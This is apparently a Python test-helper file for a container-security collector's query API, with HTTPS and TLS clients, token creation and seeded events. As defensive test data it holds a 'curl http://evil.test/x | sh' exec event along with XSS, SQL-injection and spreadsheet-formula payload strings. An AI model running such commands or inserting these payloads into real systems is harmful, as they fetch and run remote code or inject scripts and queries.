# SPDX-License-Identifier: Apache-2.0
"""Helpers for the query API tests: an HTTPS client that trusts the test CA
(bearer tokens, the sign-in form, the session cookie), token creation
through the real `vigil-collector token` subcommand, raw TLS connections for
the limit tests, and known data sent through the real ingest path (a
RawAgent speaking the wire protocol).

Nothing here knows about pytest; test_api*.py make fixtures of it.
"""

import http.client
import json
import socket
import ssl
import subprocess
import threading
import time
import urllib.parse

import vigiltest as vt

XSS_NAME = "<script>alert(1)</script>"
XSS_LABEL = "<img src=x onerror=alert(1)>"
FORMULA_NAME = "=HYPERLINK(\"http://x\",\"y\")"
INJECTION = "'; DROP TABLE events; --"
IMAGE = "registry.test/web:1.0"


def https_context(pki, cert=None, key=None):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.load_verify_locations(pki.ca_crt)
    ctx.check_hostname = True
    if hasattr(ssl, "OP_IGNORE_UNEXPECTED_EOF"):
        ctx.options |= ssl.OP_IGNORE_UNEXPECTED_EOF
    if cert:
        ctx.load_cert_chain(cert, key)
    return ctx


def operator_pki(pki):
    """An operator CA (not the agents' CA) and two operator certificates,
    ops-viewer and ops-admin: {"ca": path, "viewer": (crt, key), "admin": ...}."""
    import os
    from cryptography.hazmat.primitives import serialization
    d = os.path.join(pki.dir, "operators")
    os.makedirs(d, exist_ok=True)
    ca, ca_key = pki.other_ca()
    path = os.path.join(d, "opca.crt")
    with open(path, "wb") as f:
        f.write(ca.public_bytes(serialization.Encoding.PEM))
    viewer = pki.issue(os.path.join(d, "ops-viewer"), "ops-viewer", issuer=ca,
                       issuer_key=ca_key)
    admin = pki.issue(os.path.join(d, "ops-admin"), "ops-admin", issuer=ca, issuer_key=ca_key)
    return {"ca": path, "viewer": viewer[:2], "admin": admin[:2]}


class Response:
    def __init__(self, status, headers, body, header_list=()):
        self.status = status
        self.headers = headers
        self.body = body
        self.header_list = list(header_list)

    def json(self):
        return json.loads(self.body)

    def header(self, name):
        return self.headers.get(name.lower())

    def header_all(self, name):
        return [v for k, v in self.header_list if k.lower() == name.lower()]

    def cookie(self):
        """The session cookie this answer sets: (value, {attribute: value}),
        or None."""
        for v in self.header_all("set-cookie"):
            parts = [p.strip() for p in v.split(";")]
            name, _, value = parts[0].partition("=")
            if name == COOKIE:
                attrs = {}
                for p in parts[1:]:
                    k, _, val = p.partition("=")
                    attrs[k.lower()] = val
                return value, attrs
        return None

    def __repr__(self):
        return "<%d %r>" % (self.status, self.body[:300])


COOKIE = "__Host-vigil_session"


class Api:
    """Requests to the collector's HTTPS port, one connection each. The
    credential is a bearer token (token=, "" for none), a session cookie
    (cookie=, the value) or the client certificate."""

    def __init__(self, port, pki, token=None, cert=None, key=None, timeout=20.0):
        self.port = port
        self.token = token
        self.ctx = https_context(pki, cert, key)
        self.timeout = timeout

    def request(self, method, path, params=None, token=None, headers=None, body=None,
                cookie=None):
        if params:
            path += "?" + urllib.parse.urlencode(params)
        h = {}
        tok = token if token is not None else self.token
        if tok:
            h["Authorization"] = "Bearer " + tok
        if cookie is not None:
            h["Cookie"] = COOKIE + "=" + cookie
        h.update(headers or {})
        c = http.client.HTTPSConnection("localhost", self.port, context=self.ctx,
                                        timeout=self.timeout)
        try:
            c.request(method, path, body=body, headers=h)
            r = c.getresponse()
            data = r.read()
            return Response(r.status, {k.lower(): v for k, v in r.getheaders()}, data,
                            r.getheaders())
        finally:
            c.close()

    def get(self, path, params=None, token=None, headers=None, cookie=None):
        return self.request("GET", path, params, token, headers, cookie=cookie)

    def signin(self, value, headers=None, form=None):
        """POST the sign-in form with token=VALUE (plus FORM fields), as a
        browser would."""
        fields = dict(form or {})
        if value is not None:
            fields["token"] = value
        h = {"Content-Type": "application/x-www-form-urlencoded"}
        h.update(headers or {})
        return self.request("POST", "/api/v1/session", token="", headers=h,
                            body=urllib.parse.urlencode(fields))

    def signout(self, headers=None, cookie=None):
        return self.request("DELETE", "/api/v1/session", token="", headers=headers,
                            cookie=cookie)

    def ok(self, path, params=None, **kw):
        r = self.get(path, params, **kw)
        assert r.status == 200, "%s %s -> %r" % (path, params, r)
        return r.json() if r.header("content-type") == "application/json" else r


def create_token(collector_bin, db, name, role, expires=None):
    """Run `vigil-collector token create` and return the printed token."""
    args = [collector_bin, "token", "create", "--name", name, "--role", role,
            "--db", db.conninfo]
    if expires:
        args += ["--expires", expires]
    r = subprocess.run(args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                       timeout=60, env=vt.sanitizer_env())
    assert r.returncode == 0, "token create failed: %s" % r.stderr
    assert not vt.sanitizer_reports(r.stderr), r.stderr
    tok = r.stdout.strip()
    assert tok.startswith("vgl_") and len(tok) == 68, tok
    return tok


def token_cmd(collector_bin, db, *args):
    r = subprocess.run([collector_bin, "token"] + list(args) + ["--db", db.conninfo],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                       timeout=60, env=vt.sanitizer_env())
    assert not vt.sanitizer_reports(r.stderr), r.stderr
    return r


def tls_socket(port, pki, timeout=10.0):
    raw = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    return https_context(pki).wrap_socket(raw, server_hostname="localhost")


class RawTLS:
    """A TLS connection over a plain socket and memory BIOs: a request can be
    encrypted in advance, then sent by another thread (send_async) while
    this one reads the answer (read_all), as a client that keeps sending
    after the server has answered."""

    def __init__(self, port, pki, timeout=10.0):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.inc, self.out = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = https_context(pki).wrap_bio(self.inc, self.out, server_hostname="localhost")
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self._flush()
                d = self.sock.recv(65536)
                if not d:
                    raise ConnectionError("closed during the handshake")
                self.inc.write(d)
        self._flush()
        self.sent = 0
        self.send_error = None
        self.thread = None

    def _flush(self):
        d = self.out.read()
        if d:
            self.sock.sendall(d)

    def encrypt(self, data):
        view = memoryview(data)
        while view:
            n = self.tls.write(view[:16384])
            view = view[n:]
        return self.out.read()

    def send_async(self, data, chunk=1 << 20, delay=0.0):
        """Send DATA (plaintext) from a thread, CHUNK bytes of ciphertext
        at a time, DELAY seconds apart; stop at the first error."""
        ct = self.encrypt(data)

        def run():
            try:
                for i in range(0, len(ct), chunk):
                    self.sock.sendall(ct[i:i + chunk])
                    self.sent += min(chunk, len(ct) - i)
                    if delay:
                        time.sleep(delay)
            except OSError as e:
                self.send_error = e
        self.thread = threading.Thread(target=run, daemon=True)
        self.thread.start()

    def read_all(self, timeout):
        """Plaintext until the server closes (close_notify, FIN or reset);
        raise TimeoutError after TIMEOUT s."""
        deadline = time.monotonic() + timeout
        out = b""
        while True:
            try:
                d = self.tls.read(65536)
                if not d:
                    return out  # close_notify
                out += d
                continue
            except ssl.SSLWantReadError:
                pass
            except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
                return out
            left = deadline - time.monotonic()
            if left <= 0:
                raise TimeoutError("connection still open")
            self.sock.settimeout(left)
            try:
                d = self.sock.recv(65536)
            except (ConnectionResetError, BrokenPipeError):
                return out
            except socket.timeout:
                raise TimeoutError("connection still open")
            if not d:
                return out
            self.inc.write(d)

    def close(self):
        self.sock.close()
        if self.thread:
            self.thread.join(10)


def read_all(sock, timeout):
    """Bytes until the peer closes; raise TimeoutError after TIMEOUT s."""
    deadline = time.monotonic() + timeout
    out = b""
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            raise TimeoutError("connection still open")
        sock.settimeout(left)
        try:
            d = sock.recv(65536)
        except (ssl.SSLEOFError, ConnectionResetError, BrokenPipeError):
            return out
        except socket.timeout:
            raise TimeoutError("connection still open")
        if not d:
            return out
        out += d


# --- known data, through the real ingest path ---------------------------------------

def finding_event(cid, rule, summary, severity, ts=None):
    E, _ = vt.pb()
    e = E.Event()
    e.time_ns = ts or vt.now_ns()
    e.kind = E.EVENT_KIND_FINDING
    e.severity = severity
    if cid:
        e.container_id = cid
    e.finding.rule = rule
    e.finding.summary = summary
    return e


def status_event(sources, ts=None, dropped=None, losses=()):
    """An AgentStatus event; SOURCES is [(name, ok, error)]; DROPPED is
    (batches, events, first_ns, last_ns) that the agent could not keep;
    LOSSES is [(what, count, total, first_ns, last_ns)]."""
    E, _ = vt.pb()
    e = E.Event()
    e.time_ns = ts or vt.now_ns()
    e.kind = E.EVENT_KIND_AGENT_STATUS
    e.severity = E.SEVERITY_INFO
    st = e.agent_status
    st.spool_bytes = 1024
    st.spool_capacity = 1 << 20
    for name, ok, err in sources:
        x = st.sources.add()
        x.name, x.ok, x.error = name, ok, err
    if dropped:
        (st.dropped_batches, st.dropped_events, st.drop_first_ns, st.drop_last_ns) = dropped
    for what, count, total, first_ns, last_ns in losses:
        x = st.losses.add()
        x.what, x.count, x.total, x.first_ns, x.last_ns = what, count, total, first_ns, last_ns
    return e


def started(cid, name, image=IMAGE, privileged=False, labels=None, ts=None):
    e = vt.container_started_event(cid, name, privileged=privileged, image=image, ts=ts)
    if labels:
        c = e.container_started.container
        for k, v in labels.items():
            lab = c.labels.add()
            lab.key, lab.value = k, v
    return e


class Fleet:
    """What the API tests expect to find, after load()."""

    C1 = "a1" * 32          # web-1 on node-1: privileged, runs the shell
    C2 = "b2" * 32          # web-2 on node-2: same image
    C3 = "c3" * 32          # the XSS container on node-2
    C4 = "d4" * 32          # a formula-named container on node-2, other image
    NODE1 = "api-node-1"
    NODE2 = "api-node-2"

    def __init__(self):
        self.exec_c1 = []   # (argv) sent for C1, oldest first
        self.old_ts_ns = None

    def load(self, port, pki):
        E, _ = vt.pb()
        now = vt.now_ns()
        self.t0 = now / 1e9
        self.old_ts_ns = now - 3 * 86400 * 10**9
        cert, key = pki.agent(self.NODE1)
        a1 = vt.RawAgent(port, vt.client_context(pki, cert, key)).connect()
        a1.hello()
        evs = [started(self.C1, "web-1", privileged=True, labels={"tier": "front"},
                       ts=now - 600 * 10**9)]
        for i in range(5):
            argv = ["/bin/sh", "-c", "step %d" % i]
            self.exec_c1.append(argv)
            evs.append(vt.exec_event(3000 + i, argv, exe="/bin/sh", container_id=self.C1,
                                     ts=now - (500 - i) * 10**9, severity=E.SEVERITY_INFO))
        evs.append(vt.exec_event(4000, ["curl", "http://evil.test/x", "|", "sh"],
                                 exe="/usr/bin/curl", container_id=self.C1,
                                 ts=now - 100 * 10**9, severity=E.SEVERITY_HIGH))
        evs.append(vt.exec_event(4001, ["/bin/echo", INJECTION], exe="/bin/echo",
                                 container_id=self.C1, ts=now - 90 * 10**9))
        evs.append(finding_event(self.C1, "shell-in-container", "a shell ran in web-1",
                                 E.SEVERITY_CRITICAL, ts=now - 80 * 10**9))
        evs.append(vt.exec_event(4002, ["/usr/bin/old-tool"], exe="/usr/bin/old-tool",
                                 container_id=self.C1, ts=self.old_ts_ns))
        self.drop_first_ns = (now // 10**9 - 3600) * 10**9
        evs.append(status_event([("procfs", True, ""), ("docker-api", False, "no socket")],
                                ts=now - 70 * 10**9,
                                dropped=(2, 700, self.drop_first_ns,
                                         self.drop_first_ns + 600 * 10**9),
                                losses=[("proc_connector_overrun", 3, 5, self.drop_first_ns,
                                         self.drop_first_ns + 10**9),
                                        ("exec_unread", 0, 12, 0, 0)]))
        a1.batch(1, evs)
        cert, key = pki.agent(self.NODE2)
        with vt.RawAgent(port, vt.client_context(pki, cert, key)).connect() as a2:
            a2.hello()
            a2.batch(1, [
                started(self.C2, "web-2", ts=now - 700 * 10**9),
                started(self.C3, XSS_NAME, image="registry.test/xss:1",
                        labels={"note": XSS_LABEL, XSS_LABEL: "k"}, ts=now - 650 * 10**9),
                started(self.C4, FORMULA_NAME, image="registry.test/other:2",
                        ts=now - 640 * 10**9),
                vt.exec_event(5000, ["/bin/ls", "-l"], exe="/bin/ls", container_id=self.C2,
                              ts=now - 60 * 10**9),
            ])
        return a1  # node-1 stays connected (online)
